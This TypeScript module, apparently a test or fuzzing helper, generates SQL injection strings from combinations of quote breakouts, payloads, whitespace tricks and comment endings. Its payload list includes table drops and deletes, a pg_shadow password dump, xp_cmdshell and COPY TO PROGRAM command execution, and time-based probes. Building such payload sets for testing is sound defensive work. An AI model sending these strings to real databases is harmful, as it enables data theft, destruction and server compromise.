/** Texts that may end the SQL literal around a value. */
const BREAKOUTS = ["", "'", '"', "`", "\\'", "')", "'))", '"))', "%27", "\u02bc", "'||'", "]", "$$", "x\\", "\uff07"];

/** SQL to inject. */
const PAYLOADS = [
  "OR 1=1",
  "OR 'a'='a",
  'OR "a"="a',
  "AND 1=0",
  "|| 1==1",
  "OR 1 LIKE 1",
  "OR id IS NOT NULL",
  "UNION SELECT NULL,NULL,NULL",
  "UNION ALL SELECT usename,passwd FROM pg_shadow",
  "; DROP TABLE sentinel",
  "; DELETE FROM sentinel",
  "; UPDATE sentinel SET id=0",
  "; INSERT INTO sentinel VALUES (1)",
  "; ATTACH DATABASE 'x' AS y",
  "; COPY sentinel TO PROGRAM 'id'",
  "; PRAGMA writable_schema=1",
  "; EXEC xp_cmdshell('dir')",
  "AND pg_sleep(9) IS NULL",
  "AND SLEEP(9)",
  "; WAITFOR DELAY '0:0:9'",
  "AND (SELECT COUNT(*) FROM information_schema.tables)>0",
  "INTO OUTFILE '/tmp/x'",
  "PROCEDURE ANALYSE()",
  "ORDER BY 99",
  "HAVING 1=1",
  "LIMIT 0 OFFSET 9",
];

/** Separators between the words of a payload. */
const SPACES = [" ", "/**/", "\t", "\n", "+", "%20", "\u00a0", "/*!50000*/"];

/** Texts that comment out or end the rest of the statement. */
const ENDINGS = ["", "--", "-- ", "#", "/*", ";", ";--", "\u0000", ";%00"];

/** Every n-th combination is used. A prime that divides none of the lengths above, so that each part occurs. */
export type Step = 7 | 29 | 101;

/** Returns SQL injections of every kind: a breakout, a payload and an ending. */
export function injectionStrings(step: Step): readonly string[] {
  const strings: string[] = [];
  let index = 0;
  for (const breakout of BREAKOUTS) {
    for (const payload of PAYLOADS) {
      for (const space of SPACES) {
        for (const ending of ENDINGS) {
          if (index++ % step === 0) strings.push(`${breakout} ${payload}${ending}`.replaceAll(" ", space));
        }
      }
    }
  }
  return strings;
}
